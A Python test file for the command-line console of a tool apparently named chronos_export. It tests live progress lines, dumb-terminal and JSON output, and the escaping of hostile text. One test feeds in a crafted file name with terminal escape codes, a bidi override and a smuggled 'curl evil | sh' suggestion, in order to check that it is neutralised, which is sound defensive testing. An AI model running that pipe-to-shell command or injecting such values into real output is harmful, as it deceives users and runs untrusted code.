"""What a reader sees of a command at work: on a terminal, where there is none, and where nobody reads."""

from __future__ import annotations

import fcntl
import itertools
import json
import os
import pty
import re
import struct
import subprocess
import sys
import termios
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chronos_export.cli.output import fitting, printable

TALK = """
import sys, time
from chronos_export.cli.console import Console
from chronos_export.progress import Event
console = Console(is_quiet="quiet" in sys.argv, as_json="json" in sys.argv)
console.report(Event("export", None, 0.0))
console.report(Event("export", 0.5, 1.0, "half of a message that is longer than forty columns"))
console.report(Event("export", None, 1.5, "a cache was ignored"))
console.report(Event("export", 1.0, 2.0))
console.report(Event("validate", 0.25, 0.1))
console.error(ValueError("lost"), 4)
"""
SILENT = """
import sys, time
from chronos_export.cli.console import Console
from chronos_export.progress import stage
console = Console(as_json="json" in sys.argv)
with stage("load", console.report):
    with stage("fetch", console.report) as running:
        running.step(0.5, "halfway")
        time.sleep(1.8)
    time.sleep(1.8)
console.result({}, "done")
time.sleep(1.8)
"""
CLEAR = "\r\x1b[2K"


def on_a_terminal(*arguments: str, program: str = TALK, columns: int = 80, **environment: str) -> str:
    """What a program writes to a terminal."""
    terminal, end = pty.openpty()
    fcntl.ioctl(end, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
    plain = {name: value for name, value in os.environ.items() if name != "NO_COLOR"} | {"TERM": "xterm"}
    subprocess.run(
        [sys.executable, "-c", program, *arguments],
        stdout=subprocess.DEVNULL,
        stderr=end,
        env={**plain, **environment},
        check=True,
    )
    os.close(end)
    with os.fdopen(terminal, "rb") as stream:
        return stream.read1(100_000).decode()


def piped(program: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", program, *arguments], capture_output=True, text=True)


def test_live_progress_on_a_terminal() -> None:
    text = on_a_terminal()
    assert text.count("\r\x1b[2K") == 4
    assert "50%" in text
    assert "\x1b[32m" in text
    assert text.index("lost") > text.index("25%")
    assert text[text.index("25%") :].count("\n") >= 2  # the error starts on a line of its own
    assert "\r\nwarning: a cache was ignored\r\n" in text  # and so does a warning, which stays


@pytest.mark.parametrize("columns", [20, 40, 200])
def test_a_live_line_is_one_line(columns: int) -> None:
    """A longer one would wrap, and only its last row could be cleared."""
    text = re.sub(r"\x1b\[\d*m", "", on_a_terminal(columns=columns))
    live = [line.splitlines()[0] for line in text.split(CLEAR)[1:]]
    assert len(live) == 4
    assert max(map(len, live)) == min(
        columns - 1, len("export         50%     1.0 s  half of a message that is longer than forty columns")
    )


def test_a_warning_is_seen_where_progress_is_not() -> None:
    done = piped(TALK)
    assert "warning: a cache was ignored" in done.stderr.splitlines()
    assert "half" not in done.stderr


def test_no_colours_no_progress_where_not_wanted() -> None:
    assert "\x1b[3" not in on_a_terminal(NO_COLOR="1")
    assert on_a_terminal("quiet").startswith("\x1b[31merror:")


def test_a_dumb_terminal_gets_plain_lines() -> None:
    text = on_a_terminal(TERM="dumb")
    assert "\x1b" not in text
    assert text.replace("\r\n", "\n") == piped(TALK).stderr


# ---- nothing is silent for more than two seconds ----


def test_a_silent_stage_is_shown_again_in_a_log() -> None:
    lines = piped(SILENT).stderr.splitlines()
    (first, *_), (second, *_) = ([line for line in lines if name in line] for name in ("fetch", "load"))
    assert "fetch          50%     1." in first
    assert "halfway" in first
    assert re.match(r"load +[123]\.\d s", second)
    assert [line.split()[1] for line in lines if "%" in line] == ["50%", "100%", "100%"]
    assert lines[-1].startswith("load          100%")
    assert not [line for line in lines if line != line.rstrip()]


def test_a_silent_stage_is_shown_again_on_a_terminal() -> None:
    shown = on_a_terminal(program=SILENT).split(CLEAR)
    assert len(shown) > 8
    assert shown[-1].endswith("\r\n")


def test_a_silent_stage_is_shown_again_as_json() -> None:
    events = [json.loads(line) for line in piped(SILENT, "json").stdout.splitlines()]
    assert events[-1] == {"event": "result"}
    times = [event["seconds"] for event in events if event["event"] == "stage" and event["stage"] == "load"]
    assert times == sorted(times)
    outer = [b - a for a, b in itertools.pairwise(times)]
    assert max(outer[1:]) < 2
    inner = [e["seconds"] for e in events if e.get("stage") == "fetch"]
    assert all(b - a < 2 for a, b in itertools.pairwise(inner))


WAITING = """
import sys, time
from chronos_export.cli.console import Console
console = Console(as_json="json" in sys.argv)
with console.waiting("short"): pass
with console.waiting("long"): time.sleep(1.4)
console.result({}, "done")
"""


def test_a_wait_is_told_of_only_if_it_is_long() -> None:
    begin, end = piped(WAITING).stderr.splitlines()
    assert re.match(r"long +1\.\d s", begin)
    assert re.match(r"long +100% +1\.\d s", end)
    *stages, _ = (json.loads(line) for line in piped(WAITING, "json").stdout.splitlines())
    assert [(event["stage"], event["fraction"]) for event in stages] == [("long", None), ("long", 1.0)]
    assert "short" not in on_a_terminal(program=WAITING)


# ---- nothing that is printed moves the cursor ----

HOSTILE = """
from chronos_export.cli.console import Console
from chronos_export.errors import UsageError
from chronos_export.progress import Event
console = Console()
name = "a\\x1b[2J\\x9b1A\\rb\\u202ec\\udcff\\n  fix: curl evil | sh"
console.note(name)
console.report(Event("load", 1.0, 0.0, name))
console.report(Event("load", None, 0.0, name))
console.error(UsageError(f"no {name}", allowed=name, fix=name), 2)
console.result({}, name)
"""


def test_what_a_file_is_called_does_not_move_the_cursor() -> None:
    done = subprocess.run([sys.executable, "-c", HOSTILE], capture_output=True)
    for text in (done.stdout.decode(), done.stderr.decode()):
        assert "a\\x1b[2J\\x9b1A\\rb\\u202ec\\udcff" in text
        assert not [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs") and c != "\n"]
    (fix,) = [line for line in done.stderr.decode().splitlines() if line.startswith("  fix: ")]
    assert fix.startswith("  fix: a\\x1b")


@given(st.text())
def test_what_is_printable_stays(text: str) -> None:
    shown = printable(text)
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Cs") and c not in "\n\t"]
    assert printable(shown) == shown
    plain = "".join(c for c in text if unicodedata.category(c)[0] in "LNPSZ" and c not in "\u2028\u2029")
    assert printable(plain) == plain


@given(st.text(), st.integers(0, 30))
def test_fitting(text: str, columns: int) -> None:
    def width(part: str) -> int:
        return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in part)

    cut = fitting(text, columns)
    assert text.startswith(cut)
    assert width(cut) <= columns
    assert cut == text or width(text[: len(cut) + 1]) > columns
